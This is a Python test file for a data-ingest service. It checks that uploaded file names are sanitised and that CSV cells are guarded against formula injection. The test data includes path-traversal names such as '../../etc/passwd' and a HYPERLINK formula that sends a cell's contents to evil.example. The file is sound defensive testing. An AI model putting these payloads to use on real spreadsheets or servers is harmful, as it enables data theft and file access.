"""Hostile file names and formula injection in what we write back out."""

from __future__ import annotations

import csv
import datetime as dt
import io
import unicodedata
from decimal import Decimal

import pytest

from ingest.safety import neutralise_formula, safe_filename
from ingest.submissions.model import RowProblem

from .files import csv_bytes, row


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\Windows\\System32\\cmd.exe", "cmd.exe"),
        ("/var/data/AG.STP_2026-03.xlsx", "AG.STP_2026-03.xlsx"),
        ("C:\\Users\\cb\\Báo cáo tháng 3.xlsx", "Báo cáo tháng 3.xlsx"),
        ("bao\x00cao.csv", "baocao.csv"),
        ("bao\ncao\r\t.csv", "baocao.csv"),
        ("invoice\u202excod.csv", "invoicexcod.csv"),
        ('a<b>c:d"e|f?g*h.csv', "a_b_c_d_e_f_g_h.csv"),
        ("evil\u2215..\u2215x.csv", "evil_.._x.csv"),
        ("CON", "_CON"),
        ("nul.txt", "_nul.txt"),
        ("com1.csv", "_com1.csv"),
        ("LPT9", "_LPT9"),
        ("console.csv", "console.csv"),
        (".hidden.csv", "hidden.csv"),
        ("trailing. . .", "trailing"),
        ("  Báo   cáo  .csv  ", "Báo cáo .csv"),
    ],
)
def test_safe_filename(name, expected):
    assert safe_filename(name) == expected


@pytest.mark.parametrize("name", ["", " ", ".", "..", "...", "/", "\\", "../", "\x00", "\u202e", "_"])
def test_safe_filename_is_never_empty(name):
    result = safe_filename(name)
    assert result and result.strip(" ._")
    assert "/" not in result and "\\" not in result and ".." not in result


def test_safe_filename_keeps_vietnamese_letters_in_nfc():
    decomposed = unicodedata.normalize("NFD", "Sở Tư pháp – Đồng Tháp.xlsx")
    assert safe_filename(decomposed) == "Sở Tư pháp – Đồng Tháp.xlsx"


def test_safe_filename_limits_length_and_keeps_the_extension():
    result = safe_filename("Báo cáo " * 100 + ".xlsx")
    assert len(result.encode("utf-8")) <= 200
    assert result.endswith(".xlsx")
    assert unicodedata.is_normalized("NFC", result)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"])
def test_neutralise_formula_prefixes_a_quote(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["AG.STP", "Ghi chú = đã rà soát", " =1", "", 12, -5, 2.5, Decimal("-1"), None, dt.date(2026, 3, 1)],
)
def test_neutralise_formula_leaves_other_values(value):
    assert neutralise_formula(value) is value


def test_quarantine_export_is_safe_against_csv_injection(parse):
    """A hostile note comes in; written back out (quarantine CSV) it is text, not a formula."""
    payload = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    items = parse(
        csv_bytes([row(numerator="abc", note=payload), row(unit="-2+3", indicator="HT_ENTERED")]), "x.csv", rows=2
    )
    assert all(isinstance(i, RowProblem) for i in items)
    out = io.StringIO()
    writer = csv.writer(out)
    for item in items:
        writer.writerow([neutralise_formula(v) for v in item.raw_row.values()])
    cells = [cell for r in csv.reader(io.StringIO(out.getvalue())) for cell in r]
    assert "'" + payload in cells
    assert "'-2+3" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
